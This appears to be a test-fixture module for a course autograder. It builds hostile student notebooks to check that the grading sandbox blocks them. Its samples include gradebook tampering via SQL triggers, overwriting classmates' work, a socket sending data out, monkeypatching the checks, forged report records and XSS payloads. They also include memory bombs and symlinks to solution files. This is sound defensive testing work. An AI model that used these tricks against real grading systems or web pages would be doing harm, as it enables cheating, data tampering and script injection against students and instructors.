"""Hostile and broken submissions of exercise 1, built by code, each with its expected outcome.

Every case starts from a learner's notebook (the release, filled with the
correct answers unless said otherwise) and adds what a cheating or careless
learner would. ``expected`` is the score of each test cell when the sandbox
and the outside verification hold: the points the case's own code earns,
never more. ``says`` are phrases its feedback (or, for a notebook that
cannot be graded, the batch's report) must contain, so that the learner and
the instructor see what happened.

Attacks print ``BLOCKED`` with the error that stopped them; an attack that
works prints ``BREACH``, which no feedback may contain.

A case may hand in something other than a notebook file: :class:`Link` (a
symbolic link where the notebook, or the student's folder, should be) or
:class:`Fifo` (a named pipe), each refused and reported.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from rnncourse.grading import ch01_recurrence
from tests.grading.ch01_recurrence_answers import IN_PLACE
from tests.grading.notebooks import filled

POINTS = {
    "test_build_vocab": 2.0,
    "test_encode_and_pad": 2.0,
    "test_rnn_cell_forward": 3.0,
    "test_rnn_forward": 3.0,
    "test_softmax": 2.0,
    "test_classify": 3.0,
}
STUB = "# YOUR CODE HERE\nraise NotImplementedError()"


def full(**zero: bool) -> dict[str, float]:
    """Full points, except 0 for every test cell named (without its ``test_`` prefix)."""
    return {key: (0.0 if zero.get(key.removeprefix("test_")) else value) for key, value in POINTS.items()}


NOTHING = {key: 0.0 for key in POINTS}


@dataclass
class Context:
    """What the builders know: a cheater can guess every one of these paths."""

    release: nbformat.NotebookNode
    correct: dict[str, str]
    course: Path
    repo: Path
    port: int


@dataclass(frozen=True)
class Link:
    """A symbolic link to ``target``; ``folder``: the student's folder is the link, not the notebook."""

    target: Path
    folder: bool = False


@dataclass(frozen=True)
class Fifo:
    """A named pipe where the notebook should be: opening it for reading would wait for a writer."""


Submission = nbformat.NotebookNode | str | Link | Fifo


@dataclass
class Hostile:
    name: str
    build: Callable[[Context], Submission]
    expected: dict[str, float] | None  # None: not graded (reported instead)
    says: list[str] = field(default_factory=list)
    filename: str = "ch01_recurrence.ipynb"
    reported: bool = False  # ``says`` is in the batch's report (the instructor's), not in feedback


def attack(code: str) -> str:
    """``code`` run in the learner's cell; it prints BREACH if it worked, BLOCKED and why if not."""
    body = "\n".join("    " + line for line in code.strip().splitlines())
    return f"\ntry:\n{body}\n    print('BRE' 'ACH')\nexcept BaseException as error:\n    print('BLOCKED', type(error).__name__, error)\n"


def with_answers(context: Context, **answers: str) -> nbformat.NotebookNode:
    return filled(context.release, context.correct | answers)


def appended(
    context: Context, cell: str, code: str, base: dict[str, str] | None = None
) -> nbformat.NotebookNode:
    """The correct answers (or ``base``), with ``code`` added to the answer cell ``cell``."""
    answers = dict(context.correct if base is None else base)
    answers[cell] = answers[cell] + "\n" + code
    return filled(context.release, answers)


def stubs(context: Context) -> dict[str, str]:
    return {key: STUB for key in context.correct}


def extra_cell(notebook: nbformat.NotebookNode, code: str, at: int | None = None) -> nbformat.NotebookNode:
    """``notebook`` with a new code cell at index ``at``, by default just before its last test cell.

    The grader does not run the cells after the last test cell (``autograde.closing_cells``),
    so an attack placed there would prove nothing.
    """
    if at is None:
        at = max(index for index, cell in enumerate(notebook.cells) if is_test(cell))
    notebook.cells.insert(at, nbformat.v4.new_code_cell(code))
    return notebook


# -- the gradebook, the course and classmates ---------------------------------------------


def sqlite_gradebook(c: Context) -> nbformat.NotebookNode:
    code = f"""
import sqlite3, os
for path in ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db", {str(c.course / "gradebook.db")!r}]:
    if os.path.exists(path):
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0")
        db.execute("CREATE TRIGGER t AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 0; END")
        db.commit()
        break
else:
    raise FileNotFoundError("no gradebook.db visible")
"""
    return appended(c, "build_vocab", attack(code))


def write_package(c: Context) -> nbformat.NotebookNode:
    code = f"""
with open({str(c.repo / "rnncourse" / "grading" / "__init__.py")!r}, "a") as handle:
    handle.write("\\nMARKED = True\\n")
"""
    return appended(c, "build_vocab", attack(code))


def overwrite_classmate(c: Context) -> nbformat.NotebookNode:
    target = c.course / "submitted" / "ref-untouched" / "ch01_recurrence" / "ch01_recurrence.ipynb"
    source = c.repo / "solutions" / "ch01_recurrence" / "ch01_recurrence.ipynb"
    code = f"""
import shutil
shutil.copy({str(source)!r}, {str(target)!r})
"""
    return appended(c, "build_vocab", attack(code))


def write_files(c: Context) -> nbformat.NotebookNode:
    code = f"""
import os
written = []
for path in ["/hostile-marker", {str(c.course / "hostile-marker")!r}, "/tmp/hostile-marker-" + str(os.getpid())]:
    try:
        open(path, "w").write("x")
        written.append(path)
    except OSError as error:
        print("BLOCKED", path, error)
print("wrote", len(written), "files")
"""
    return appended(c, "build_vocab", code)


def network(c: Context) -> nbformat.NotebookNode:
    code = f"""
import socket
connection = socket.create_connection(("127.0.0.1", {c.port}), timeout=2)
connection.sendall(b"stolen")
"""
    return appended(c, "build_vocab", attack(code))


def read_solutions(c: Context) -> nbformat.NotebookNode:
    """Stubs in every answer; a cell that runs the instructor's solution notebook from disk."""
    code = f"""
import json, os
notebook = json.load(open({str(c.repo / "solutions" / "ch01_recurrence" / "ch01_recurrence.ipynb")!r}))
for cell in notebook["cells"]:
    if cell["cell_type"] == "code":
        exec("".join(cell["source"]), globals())
"""
    found = """
import os, sys
copies = []
# The Python environment (read-only, tens of thousands of package files) is skipped to stay in the cell's time.
for folder, subfolders, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix):
        subfolders.clear()
    copies += [name for name in files if name.endswith(".ipynb") and "recurrence" in name]
print("course notebooks visible:", len(copies))
"""
    return extra_cell(extra_cell(filled(c.release, stubs(c)), attack(code)), found)


# -- switching the checks off from inside ------------------------------------------------


def monkeypatch_grading(c: Context) -> nbformat.NotebookNode:
    code = """
import rnncourse.grading.ch01_recurrence as graders
import rnncourse.grading.core as core
for name in dir(graders):
    if not name.startswith("_") and callable(getattr(graders, name)):
        setattr(graders, name, lambda *a, **k: None)
core.compare = lambda *a, **k: None
print("patched the checks")
"""
    return extra_cell(filled(c.release, stubs(c)), code, at=2)


ZEROS = {
    "rnn_cell_forward": "def rnn_cell_forward(x_t, h_prev, W_xh, W_hh, b_h):\n    return np.zeros((x_t.shape[0], W_hh.shape[0]))\n",
    "softmax": "def softmax(logits):\n    return np.zeros_like(logits)\n",
}


def monkeypatch_numpy(c: Context) -> nbformat.NotebookNode:
    code = """
import numpy
numpy.max = lambda *a, **k: 0.0
numpy.abs = lambda a: numpy.zeros_like(a)
numpy.array_equal = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
print("patched numpy")
"""
    return extra_cell(with_answers(c, **ZEROS), code, at=2)


def always_equal(c: Context) -> nbformat.NotebookNode:
    code = """
class Agreeable(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __sub__(self, other): return np.zeros(np.shape(other))
    def __rsub__(self, other): return np.zeros(np.shape(other))
    def __array_finalize__(self, obj): pass

def rnn_cell_forward(x_t, h_prev, W_xh, W_hh, b_h):
    return np.zeros((x_t.shape[0], W_hh.shape[0])).view(Agreeable)
"""
    return with_answers(c, rnn_cell_forward=code)


def course_source(c: Context) -> nbformat.NotebookNode:
    """The course's own implementation reached by a thread, a subprocess and exec of its source."""
    scratch = c.repo / "rnncourse" / "scratch" / "rnn.py"
    cell = f"""
import threading, subprocess, sys

def rnn_cell_forward(x_t, h_prev, W_xh, W_hh, b_h):
    box = {{}}
    def work():
        from rnncourse.scratch.rnn import rnn_step_forward
        box["h"] = rnn_step_forward(x_t, h_prev, W_xh, W_hh, b_h)[0]
    thread = threading.Thread(target=work)
    thread.start(); thread.join()
    return box["h"]

def rnn_forward(x, h0, W_xh, W_hh, b_h):
    namespace = {{}}
    exec(open({str(scratch)!r}).read(), namespace)
    return namespace["rnn_forward"](x, h0, W_xh, W_hh, b_h)[0]

def softmax(logits):
    out = subprocess.run([sys.executable, "-c", "import rnncourse.scratch.activations"], capture_output=True, text=True)
    if out.returncode:
        raise RuntimeError("subprocess could not import the course: " + out.stderr.strip().splitlines()[-1])
    raise RuntimeError("BRE" "ACH")
"""
    answers = context_answers(c, rnn_cell_forward=cell, rnn_forward="", softmax="")
    return filled(c.release, answers)


def context_answers(c: Context, **answers: str) -> dict[str, str]:
    return c.correct | answers


def torch_call(c: Context) -> nbformat.NotebookNode:
    cell = """
def softmax(logits):
    import torch
    return torch.softmax(torch.as_tensor(logits), dim=1).numpy()
"""
    return with_answers(c, softmax=cell)


def show_traceback(c: Context) -> nbformat.NotebookNode:
    code = """
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
"""
    return extra_cell(filled(c.release, stubs(c)), code, at=2)


# -- stopping the run ---------------------------------------------------------------------

ENDLESS = "def softmax(logits):\n    while True:\n        pass\nsoftmax(None)\n"


def infinite_loop(c: Context) -> nbformat.NotebookNode:
    return with_answers(c, softmax=ENDLESS)


def memory_bomb(c: Context) -> nbformat.NotebookNode:
    return appended(
        c,
        "classify",
        "import numpy as np\nhoard = []\nwhile True:\n    hoard.append(np.empty(2**27))  # 1 GiB each; asking is enough to meet the limit\n",
    )


def sys_exit(c: Context) -> nbformat.NotebookNode:
    return appended(c, "build_vocab", "import sys\nsys.exit(3)\n")


def os_exit(c: Context) -> nbformat.NotebookNode:
    return appended(c, "rnn_cell_forward", "import os\nos._exit(0)\n")


def segfault(c: Context) -> nbformat.NotebookNode:
    return appended(c, "rnn_cell_forward", "import ctypes\nctypes.string_at(0)\n")


def many_lines(c: Context) -> nbformat.NotebookNode:
    return appended(c, "build_vocab", "for i in range(3_000_000):\n    print(i)\n")


# -- broken files ------------------------------------------------------------------------


def invalid_json(c: Context) -> str:
    return '{"cells": [ this is not JSON'


def nbformat_3(c: Context) -> str:
    """The correct notebook, saved by an old Jupyter as nbformat 3."""
    notebook = with_answers(c)
    return nbformat.writes(nbformat.convert(notebook, 3), version=3)


def wrong_kernel(c: Context) -> nbformat.NotebookNode:
    notebook = with_answers(c)
    notebook.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return notebook


def is_test(cell: nbformat.NotebookNode) -> bool:
    meta = cell.metadata.get("nbgrader", {})
    return bool(meta.get("grade")) and not meta.get("solution")


def edited_tests(c: Context) -> nbformat.NotebookNode:
    notebook = filled(c.release, stubs(c))
    for cell in notebook.cells:
        if is_test(cell):
            cell.source = "print('all tests pass')"
    return notebook


def deleted_tests(c: Context) -> nbformat.NotebookNode:
    notebook = with_answers(c)
    notebook.cells = [cell for cell in notebook.cells if not is_test(cell)]
    return notebook


def duplicated_tests(c: Context) -> nbformat.NotebookNode:
    """Every test cell twice, with the answers to parts 3 and 5 left as stubs."""
    notebook = with_answers(c, rnn_cell_forward=STUB, softmax=STUB)
    cells = []
    for cell in notebook.cells:
        cells.append(cell)
        if is_test(cell):
            copy = nbformat.from_dict(json.loads(json.dumps(cell)))
            copy.id = cell.id + "-copy"
            cells.append(copy)
    notebook.cells = cells
    return notebook


def warns(c: Context) -> nbformat.NotebookNode:
    cell = (
        c.correct["softmax"]
        + """
import sys, warnings
_softmax = softmax
def softmax(logits):
    warnings.warn("computing a softmax")
    print("a note on stderr", file=sys.stderr)
    return _softmax(logits)
softmax(np.zeros((1, 2)))
"""
    )
    return with_answers(c, softmax=cell)


def misnamed(c: Context) -> nbformat.NotebookNode:
    return with_answers(c)


# -- issue 18: links, forged records, the interpreter, in place, floods, metadata, libraries ---------


def link_to_solutions(c: Context) -> Link:
    """The notebook is a symbolic link into the course (archives, `cp -a` and exchange folders keep links)."""
    return Link(c.course / "solutions" / "ch01_recurrence" / "ch01_recurrence.ipynb")


def linked_folder(c: Context) -> Link:
    """The student's whole folder is a link to a classmate's."""
    return Link(c.course / "submitted" / "ref-solution" / "ch01_recurrence", folder=True)


def fifo(c: Context) -> Fifo:
    return Fifo()


FORGED = r"""
import json, os
fd = int(os.environ.get("RNNCOURSE_REPORT_FD", "-1"))

def send(message):
    try:
        os.write(fd, (json.dumps(message) + "\n").encode())
    except OSError as error:
        print("BLOCKED", error)

def mark(name):  # built at run time: the markers must not stand in the cell's source, which feedback shows
    return "FORGED" + "-" + name

passed = "Part 3: one step of the recurrence: " + "pas" + f"sed, 2 visible and 5 hidden checks ({mark('PASS')})."
for index in range(40):  # every cell of the notebook, test cells included
    send({"outputs": index, "list": [{"output_type": "stream", "name": "stdout", "text": passed}]})
send({"outputs": 5, "list": [{"output_type": "display_data", "metadata": {},
      "data": {"text/html": f"<script>alert('{mark('HTML')}')</script>", "application/javascript": mark("JS"),
               "text/plain": f"{mark('TEXT')} <script>alert('{mark('SCRIPT')}')</script>"}}]})
send({"part": "test_rnn_cell_forward", "values": {}, "npz": ""})
send({"ready": True})
print("forged")
"""


def forged_records(c: Context) -> nbformat.NotebookNode:
    """Forged records on the report pipe, and HTML in the learner's own markdown and raw cells."""
    notebook = appended(c, "build_vocab", FORGED)
    notebook.cells.insert(
        2,
        nbformat.v4.new_markdown_cell(
            "My notes <script>alert('FORGED-MD')</script> <img src=x onerror=\"alert('FORGED-IMG')\">"
        ),
    )
    notebook.cells.insert(
        3,
        nbformat.v4.new_raw_cell(
            "<script>alert('FORGED-RAW')</script>", metadata={"raw_mimetype": "text/html"}
        ),
    )
    return notebook


WALK = r"""
import gc, threading, time

def steal():
    # Every correct function the grader's request might hold, run into the notebook: how many.
    found = 0
    for obj in gc.get_objects():
        values = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()
        for value in list(values):
            if isinstance(value, str) and value.lstrip().startswith("import numpy as np") and "def " in value:
                try:
                    exec(value, globals())
                    found += 1
                except Exception:
                    pass
    return found

print("found while the cells run:", steal())

def keep_stealing():
    for _ in range(600):
        steal()
        time.sleep(0.01)

threading.Thread(target=keep_stealing, daemon=True).start()
"""


def closing_cell(c: Context) -> nbformat.NotebookNode:
    """The correct answers, then, after the last test cell, a cell that unmakes every part and never ends."""
    unmade = "".join(f"{part.function} = None\n" for part in ch01_recurrence.PARTS)
    notebook = filled(c.release, c.correct)
    return extra_cell(notebook, unmade + "while True:\n    pass\n", at=len(notebook.cells))


def walk_the_interpreter(c: Context) -> nbformat.NotebookNode:
    """Part 3 left undone; a cell and a thread search the interpreter for the correct code of later parts."""
    return extra_cell(with_answers(c, rnn_cell_forward=STUB), WALK)


def in_place(c: Context) -> nbformat.NotebookNode:
    return with_answers(c, rnn_cell_forward=IN_PLACE["rnn_cell_forward"])


FLOOD = r"""
import json, os
fd = int(os.environ.get("RNNCOURSE_REPORT_FD", "-1"))
try:
    for _ in range(15):
        os.write(fd, (json.dumps([0] * 700_000) + "\n").encode())  # 1.4 MB lines that are no record
    os.write(fd, (json.dumps([0] * 8_000_000) + "\n").encode())  # and one of 16 MB
except OSError as error:
    print("BLOCKED", error)
written = 0
try:
    for number in range(200):
        with open(f"block{number}", "wb") as handle:
            handle.write(b"x" * 900_000)
        written += 900_000
except OSError as error:
    print("the folder is full after", written // 2**20, "MiB:", error.strerror)
"""


def flood(c: Context) -> nbformat.NotebookNode:
    return appended(c, "build_vocab", FLOOD)


def edited_metadata(c: Context) -> nbformat.NotebookNode:
    """An own graded cell worth 100 points, raised points on a test cell, an answer cell turned graded."""
    notebook = with_answers(c)
    bonus = nbformat.v4.new_code_cell("print('all tests pass')")
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": False,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    notebook.cells.insert(4, bonus)
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_softmax":
            meta["points"] = 50
        if meta.get("grade_id") == "build_vocab":
            meta["grade"], meta["points"] = True, 10
    return notebook


def other_library(c: Context) -> nbformat.NotebookNode:
    """softmax from a library the exercise does not allow (mpmath, installed with sympy)."""
    cell = """
import numpy as np

def softmax(logits):
    import mpmath
    rows = [[float(mpmath.e ** (z - max(row))) for z in row] for row in logits]
    return np.array([[v / sum(row) for v in row] for row in rows])
"""
    return with_answers(c, softmax=cell)


CORPUS = [
    Hostile("sqlite-gradebook", sqlite_gradebook, full(), ["BLOCKED"]),
    Hostile("write-package", write_package, full(), ["BLOCKED"]),
    Hostile("overwrite-classmate", overwrite_classmate, full(), ["BLOCKED"]),
    Hostile(
        "write-files",
        write_files,
        full(),
        ["/hostile-marker [Errno 30] Read-only file system", "hostile-marker [Errno 2] No such file"],
    ),
    Hostile("network", network, full(), ["BLOCKED"]),
    Hostile("read-solutions", read_solutions, NOTHING, ["BLOCKED", "course notebooks visible: 0"]),
    Hostile(
        "monkeypatch-grading",
        monkeypatch_grading,
        NOTHING,
        ["patched the checks", "NotImplementedError"],
    ),
    Hostile(
        "monkeypatch-numpy",
        monkeypatch_numpy,
        full(rnn_cell_forward=True, softmax=True),
        ["patched numpy", "gives wrong"],
    ),
    Hostile(
        "always-equal", always_equal, full(rnn_cell_forward=True), ["Part 3: one step of the recurrence"]
    ),
    Hostile(
        "course-source",
        course_source,
        full(rnn_cell_forward=True, rnn_forward=True, softmax=True),
        ["No module named 'rnncourse'", "No such file or directory"],
    ),
    Hostile("torch", torch_call, full(softmax=True), ["torch"]),
    Hostile("showtraceback", show_traceback, NOTHING, ["NotImplementedError"]),
    Hostile("infinite-loop", infinite_loop, full(softmax=True), ["ran longer than the 2 s limit"]),
    Hostile("memory-bomb", memory_bomb, full(), ["MemoryError"]),
    Hostile("sys-exit", sys_exit, full(), ["SystemExit"]),
    Hostile("os-exit", os_exit, NOTHING, ["exited"]),
    Hostile("segfault", segfault, NOTHING, ["crashed"]),
    Hostile("many-lines", many_lines, full(), ["output"]),
    Hostile("invalid-json", invalid_json, None, ["not a valid notebook (not JSON"], reported=True),
    Hostile("nbformat-3", nbformat_3, full(), ["nbformat 3: upgraded"], reported=True),
    Hostile("wrong-kernel", wrong_kernel, full(), []),
    Hostile("edited-tests", edited_tests, NOTHING, ["NotImplementedError"]),
    Hostile("deleted-tests", deleted_tests, full(), ["Part 6"]),
    Hostile("duplicated-tests", duplicated_tests, full(rnn_cell_forward=True, softmax=True), ["Part 5"]),
    Hostile("warns-on-stderr", warns, full(), ["computing a softmax"]),
    Hostile(
        "misnamed",
        misnamed,
        full(),
        ["named 'ch01_recurrence (1).ipynb'"],
        filename="ch01_recurrence (1).ipynb",
        reported=True,
    ),
    # issue 18, item 1: links and other non-regular files are refused
    Hostile("link-to-solutions", link_to_solutions, None, ["symbolic link", "refused"], reported=True),
    Hostile("linked-folder", linked_folder, None, ["symbolic link", "refused"], reported=True),
    Hostile("fifo", fifo, None, ["not a regular file", "refused"], reported=True),
    # item 2: forged records rebuilt as text, HTML sanitised
    Hostile("forged-records", forged_records, full(), ["forged", "My notes"]),
    # item 3: nothing of a later part in the interpreter
    Hostile(
        "walk-the-interpreter",
        walk_the_interpreter,
        full(rnn_cell_forward=True),
        ["found while the cells run: 0"],
    ),
    # item 4, answers tabulated from the public package: test_hostile.py builds it (TABULATED)
    # item 5: one rule for arguments changed in place
    Hostile("in-place", in_place, full(rnn_cell_forward=True), ["modified its argument h_prev in place"]),
    # item 6: floods of the report pipe and of the private folder
    Hostile("flood", flood, full(), ["the folder is full after"]),
    # item 7: edited nbgrader metadata
    Hostile("edited-metadata", edited_metadata, full(), ["bonus", "graded as released"], reported=True),
    # item 8: a library the part does not allow
    Hostile("other-library", other_library, full(softmax=True), ["mpmath is not available while grading"]),
    # a cell after the last test cell is not run: it cannot change what the lab's checks saw
    Hostile("closing-cell", closing_cell, full(), ["Not run by the grader"]),
]
